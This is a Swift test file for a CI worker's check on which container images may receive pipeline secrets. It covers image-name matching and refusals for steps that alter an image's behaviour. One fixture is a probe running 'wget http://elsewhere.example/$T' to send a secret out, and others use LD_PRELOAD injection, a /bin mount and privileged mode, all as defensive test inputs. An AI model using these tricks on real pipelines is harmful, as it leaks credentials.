import PipelineLanguage
import Testing

@testable import Worker

/// The images that may receive a secret.
@Suite struct SecretImagesTests {
    @Test(
        arguments: [
            ("plugins/docker", "plugins/docker"), ("plugins/docker", "plugins/docker:20"),
            ("plugins/docker", "docker.io/plugins/docker:20@sha256:5f16"),
            ("docker.io/plugins/docker", "plugins/docker"),
            ("alpine", "docker.io/library/alpine:3"), ("harbor.example:5000/ci/*", "harbor.example:5000/ci/push:1"),
            ("plugins/docker:20", "plugins/docker:20"),
        ])
    func anImageOfThePattern(pattern: String, image: String) {
        #expect(SecretImages([pattern]).refusal(of: Step(name: "s", image: image)) == nil)
    }

    @Test(
        arguments: [
            ("plugins/docker", "evil/plugins/docker"), ("plugins/docker", "plugins/docker-x"),
            ("plugins/docker", "plugins/dockerx:1"), ("plugins/docker", "registry.example/plugins/docker"),
            ("plugins/docker", "localhost:5000/plugins/docker"), ("plugins/docker:20", "plugins/docker:21"),
            ("ci/*", "ci/a/b"), ("plugins/docker", "plugins:x/docker"),
        ])
    func anotherImage(pattern: String, image: String) {
        #expect(
            SecretImages([pattern]).refusal(of: Step(name: "s", image: image))?.hasPrefix("the step runs \(image);")
                == true)
    }

    @Test func anImageThatThePipelineHasDoSomethingElse() {
        let images = SecretImages(["plugins/docker"])
        var steps = Array(repeating: Step(name: "s", image: "plugins/docker"), count: 12)
        steps[0].commands = ["env"]
        steps[1].command = ["env"]
        steps[2].entrypoint = ["env"]
        steps[3].mounts = [Mount(name: "tools", path: "/bin")]
        steps[4].ready = Probe(command: ["sh", "-c", "wget http://elsewhere.example/$T"])
        steps[5].environment = ["LD_PRELOAD": "./x.so", "T": .secret("t")]
        steps[6].dns = ["192.0.2.1"]
        steps[7].extraHosts = ["registry.example:192.0.2.1"]
        steps[8].networkMode = "host"
        steps[9].user = "1000"
        steps[10].workingDirectory = "x"
        steps[11].privileged = true
        let words = [
            "commands", "command", "entrypoint", "volumes", "ready", "environment", "dns", "extra_hosts",
            "network_mode", "user", "working_dir", "privileged",
        ]
        for (step, word) in zip(steps, words) {
            #expect(images.refusal(of: step)?.contains("with “\(word)” of the pipeline") == true)
        }
        let plain = Step(
            name: "s", image: "plugins/docker", environment: ["T": .secret("t")])
        #expect(images.refusal(of: plain) == nil)
        #expect(images.refusal(of: Step(name: "s", commands: ["env"])) == "the step runs no image")
    }
}
